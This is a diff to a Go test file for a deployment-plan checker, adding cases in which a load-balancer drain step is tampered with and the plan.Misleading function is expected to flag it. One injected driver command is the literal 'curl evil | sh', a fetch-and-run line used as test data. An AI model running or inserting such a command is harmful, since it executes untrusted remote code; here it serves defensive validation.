@@ -1,6 +1,7 @@
 package plan_test
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
@@ -29,6 +30,28 @@ func TestMisleading(t *testing.T) {
 		t.Errorf("a step on another host: %q", wrong)
 	}
 	lane.Steps[1] = was
+	turn := &p.Apps[0].Waves[2].Lanes[0]
+	for i := range turn.Steps {
+		drain, ok := turn.Steps[i].Op.(plan.DrainOp)
+		if !ok {
+			continue
+		}
+		points := drain.Points
+		drain.Points = slices.Clone(points)
+		drain.Points[0].Driver = plan.Driver{Command: &plan.Command{Drain: "curl evil | sh"}}
+		turn.Steps[i].Op = drain
+		if wrong := plan.Misleading(p); !strings.Contains(wrong, "drives lb01 in another way") {
+			t.Errorf("a drain by another driver: %q", wrong)
+		}
+		drain.Points = slices.Clone(points)
+		drain.Points[0].Server, drain.Points[0].Member = "app01", "app01"
+		turn.Steps[i].Op, turn.Steps[i].Title = drain, drain.Title()
+		if wrong := plan.Misleading(p); !strings.Contains(wrong, "drives lb01 in another way") {
+			t.Errorf("a drain of another server: %q", wrong)
+		}
+		drain.Points = points
+		turn.Steps[i].Op, turn.Steps[i].Title = drain, drain.Title()
+	}
 	for i := range lane.Steps {
 		if undo := lane.Steps[i].Undo; len(undo) > 0 {
 			undo[0].Title = "harmless"
